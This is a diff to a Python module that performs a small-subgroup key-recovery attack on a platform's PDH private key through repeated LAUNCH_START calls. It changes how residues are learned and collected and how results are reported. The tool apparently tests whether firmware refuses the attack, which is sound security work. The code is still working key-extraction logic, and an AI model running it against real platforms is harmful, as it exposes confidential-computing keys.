@@ -50,19 +50,17 @@ class Residue(namedtuple("Residue", "order value tried")):
     __slots__ = ()
 
 
-def learn_residue(point: SmallPoint, guess: Callable[[int], bool], prime: int = PRIME) -> Residue | None:
-    """Try every multiple of a point; return the first that *guess* takes, None when it takes none.
+def learn_residue(point: SmallPoint, guess: Callable[[int], bool], prime: int = PRIME) -> Residue:
+    """Try the multiples of a point until *guess* takes one; when it takes none, the order divides the private number.
 
-    *guess* is told the x coordinate of a multiple (0 for the point at infinity, as our firmware has it), and says
-    whether the platform computed that one.
+    *guess* is told the x coordinate of a multiple, and says whether the platform computed that one.
     """
     multiple = None
     for value in range(1, point.order // 2 + 1):
         multiple = add(multiple, point.xy, prime)
-        if guess(multiple[0] if multiple else 0):
+        if multiple is not None and guess(multiple[0]):
             return Residue(point.order, value, value)
-    # Infinity last: it is the least likely, one chance in r where each other value has two.
-    return Residue(point.order, 0, point.order // 2 + 1) if guess(0) else None
+    return Residue(point.order, 0, point.order // 2)
 
 
 def join_residues(residues: Iterable[Residue]) -> int | None:
@@ -111,9 +109,10 @@ class PdhTheft:
         """Show the answer, and what each point told. The private number stays hidden."""
         from ..layout.page import Banner, Table, View
 
-        words = f"{self.launches} LAUNCH_STARTs with {len(self.residues)} points"
+        words = f"{self.launches} LAUNCH_START{'s' * (self.launches != 1)}"
         if self.caught is not None:
             return View(Banner(f"REFUSED after {words}: {self.caught}", "green"))
+        words += f" with {len(self.residues)} points"
         found = self.private is not None
         answer = (
             "they give the private number of the PDH" if found else "the private number is not among what they tell"
@@ -176,9 +175,7 @@ def steal_pdh(platform: Platform, points: Sequence[SmallPoint] | None = None) ->
     theft = PdhTheft(platform.pdh_cert_export()[PDH])
     try:
         for point in load_points() if points is None else points:
-            residue = learn_residue(point, Guesser(platform, point, theft))
-            if residue is not None:
-                theft.residues.append(residue)
+            theft.residues.append(learn_residue(point, Guesser(platform, point, theft)))
             if theft.bits > SQUARE_BITS:
                 break
     except FirmwareError as refusal:
